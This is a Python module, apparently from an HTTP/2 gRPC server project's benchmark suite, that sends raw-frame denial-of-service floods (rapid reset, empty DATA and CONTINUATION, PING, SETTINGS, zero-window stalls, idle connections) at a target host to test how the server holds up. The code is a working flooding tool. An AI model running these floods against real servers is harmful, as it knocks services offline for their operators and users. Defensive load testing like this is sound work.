"""HTTP/2 floods against a gRPC server, sent as an attacker sends them: raw frames over TCP as
fast as the socket takes them (or at a set pace), from a process of their own, reading what
the server answers so that it never stops reading, and reconnecting whenever it closes, until
the time is up.

    python -m bench.attacks NAME HOST:PORT SECONDS        one flood; prints one JSON line
    python -m bench.attacks idle HOST:PORT COUNT [--raw]  holds COUNT idle connections (after
                                                          the HTTP/2 handshake, or bare TCP
                                                          with --raw) until stdin closes

Each flood is one of the issue's (#30); ``bench.floods`` runs them against pbd and Triton with a
legitimate client beside them. The JSON line says how many connections the flood needed, the
bytes it sent, and the GOAWAY codes the server sent back.
"""

from __future__ import annotations

import json
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass

from pbd.h2 import frames as f

MODEL_INFER = b"/inference.GRPCInferenceService/ModelInfer"
CHUNK = 64 * 1024  # bytes a flood hands the socket at once
HANDSHAKE = f.PREFACE + f.settings({}) + f.SETTINGS_ACK


def request_block(path: bytes = MODEL_INFER) -> bytes:
    """A gRPC request's header block, as literals (every block the same bytes)."""
    fields = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path),
        (b":authority", b"flood"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    return b"".join(f.literal(name, value) for name, value in fields)


def infer_message(model: str = "identity_fp32") -> bytes:
    """A small, valid ModelInfer request as a gRPC message."""
    from bench.loadgen import build_request

    payload, _ = build_request(model, [1, 4])
    return b"\x00" + len(payload).to_bytes(4, "big") + payload


@dataclass(frozen=True)
class Flood:
    """``opening``: what follows the handshake on each connection; ``batch(n)``: the n-th run
    of frames (each about CHUNK bytes); ``per_second``: batches a second (None: as fast as
    the socket takes them); ``reconnect``: open a new connection when the server closes one
    (False where each connection's opening is itself a load of real calls); ``settle``:
    seconds between the first opening and the flood (the legitimate client starts then)."""

    opening: Callable[[], bytes]
    batch: Callable[[int], bytes]
    per_second: float | None = None
    reconnect: bool = True
    settle: float = 0.0


def _streams(n: int, make: Callable[[int], bytes]) -> bytes:
    """The n-th batch of a flood that opens a stream per item: ids go on from the last batch."""
    one = len(make(1))
    count = max(1, CHUNK // one)
    return b"".join(make(1 + 2 * (n * count + i)) for i in range(count))


def _rapid_reset(with_data: bool) -> Callable[[int], bytes]:
    block = request_block()
    message = infer_message() if with_data else b""

    def stream(sid: int) -> bytes:
        wire = f.frame(f.HEADERS, f.END_HEADERS, sid, block)
        if with_data:
            wire += f.frame(f.DATA, f.END_STREAM, sid, message)
        return wire + f.rst_stream(sid, f.CANCEL)

    return lambda n: _streams(n, stream)


def _repeat(frame: bytes) -> Callable[[int], bytes]:
    batch = frame * max(1, CHUNK // len(frame))
    return lambda n: batch


def _pings(n: int) -> bytes:
    count = CHUNK // 17
    return b"".join(f.frame(f.PING, 0, 0, struct.pack(">Q", n * count + i)) for i in range(count))


def _held_answers(count: int = 1000) -> bytes:
    """``count`` calls whose answers wait on the zero window the opening SETTINGS set."""
    block, message = request_block(), infer_message()
    return f.settings({f.INITIAL_WINDOW_SIZE: 0}) + b"".join(
        f.frame(f.HEADERS, f.END_HEADERS, sid, block) + f.frame(f.DATA, f.END_STREAM, sid, message)
        for sid in range(1, 2 * count, 2)
    )


FLOODS: dict[str, Flood] = {
    "rapid reset + DATA": Flood(lambda: b"", _rapid_reset(True)),
    "rapid reset": Flood(lambda: b"", _rapid_reset(False)),
    "empty DATA": Flood(
        lambda: f.frame(f.HEADERS, f.END_HEADERS, 1, request_block()),
        _repeat(f.frame(f.DATA, 0, 1, b"")),
    ),
    "empty CONTINUATION": Flood(
        lambda: f.frame(f.HEADERS, 0, 1, request_block()),
        _repeat(f.frame(f.CONTINUATION, 0, 1, b"")),
    ),
    "PING": Flood(lambda: b"", _pings),
    "SETTINGS": Flood(lambda: b"", _repeat(f.settings({f.INITIAL_WINDOW_SIZE: 65535}))),
    # 3,000 SETTINGS frames a second (45 KB/s) while 1,000 answers wait on a zero window.
    "SETTINGS, answers waiting": Flood(
        _held_answers,
        lambda n: f.settings({f.INITIAL_WINDOW_SIZE: 0}) * 30,
        per_second=100.0,
        reconnect=False,
        settle=2.0,  # the 1,000 answers are made and waiting before the flood starts
    ),
}


class Reader(threading.Thread):
    """Reads (and drops) what the server sends, noting its GOAWAY codes, until it closes."""

    def __init__(self, sock: socket.socket, goaways: Counter[str]) -> None:
        super().__init__(daemon=True)
        self.sock = sock
        self.goaways = goaways
        self.closed = threading.Event()

    def run(self) -> None:
        buffer = bytearray()
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except TimeoutError:  # the socket's timeout is the sender's: quiet is not closed
                continue
            except OSError:
                break
            if not data:
                break
            buffer += data
            pos = 0
            while len(buffer) - pos >= 9:
                length = int.from_bytes(buffer[pos : pos + 3], "big")
                if len(buffer) - pos < 9 + length:
                    break
                if buffer[pos + 3] == f.GOAWAY:
                    payload = bytes(buffer[pos + 9 : pos + 9 + length])
                    code = int.from_bytes(payload[4:8], "big")
                    self.goaways[f"{code}:{payload[8:40].decode('latin-1')}"] += 1
                pos += 9 + length
            del buffer[:pos]
        self.closed.set()


def flood(name: str, host: str, port: int, seconds: float) -> dict[str, object]:
    """Flood for ``seconds`` after the first connection's opening (and ``settle``); a line
    ``{"ready": true}`` on stdout says when the flood proper starts."""
    spec = FLOODS[name]
    deadline = float("inf")
    connections = sent = 0
    goaways: Counter[str] = Counter()
    while time.monotonic() < deadline:
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.01)
            continue
        connections += 1
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(5.0)  # a server that stops reading must not hold the flood past its end
        reader = Reader(sock, goaways)
        reader.start()
        n = 0
        try:
            sock.sendall(HANDSHAKE + spec.opening())
            if connections == 1:
                time.sleep(spec.settle)
                deadline = time.monotonic() + seconds
                print(json.dumps({"ready": True}), flush=True)
            began = time.monotonic()
            while time.monotonic() < deadline and not reader.closed.is_set():
                sock.settimeout(max(0.05, deadline - time.monotonic()))
                data = spec.batch(n)
                sock.sendall(data)
                sent += len(data)
                n += 1
                if spec.per_second:
                    time.sleep(max(0.0, began + n / spec.per_second - time.monotonic()))
        except OSError:
            pass
        finally:
            sock.close()
            reader.join(timeout=2)
        if not spec.reconnect:
            time.sleep(max(0.0, deadline - time.monotonic()))
    return {"flood": name, "connections": connections, "bytes": sent, "goaways": dict(goaways)}


def hold_idle(host: str, port: int, count: int, raw: bool) -> None:
    """Open ``count`` connections, say so, hold them until stdin closes, then say how many
    the server had closed meanwhile."""
    socks = []
    for _ in range(count):
        sock = socket.create_connection((host, port), timeout=10)
        if not raw:
            sock.sendall(HANDSHAKE)
        socks.append(sock)
    print(json.dumps({"open": len(socks)}), flush=True)
    sys.stdin.read()
    closed = 0
    for sock in socks:
        sock.setblocking(False)
        try:
            while data := sock.recv(1 << 16):
                del data
            closed += 1  # EOF: the server closed it
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        sock.close()
    print(json.dumps({"closed_by_server": closed}), flush=True)


def main(argv: list[str]) -> int:
    name, target, amount = argv[:3]
    host, port = target.rsplit(":", 1)
    if name == "idle":
        hold_idle(host, int(port), int(amount), "--raw" in argv[3:])
    else:
        print(json.dumps(flood(name, host, int(port), float(amount))), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
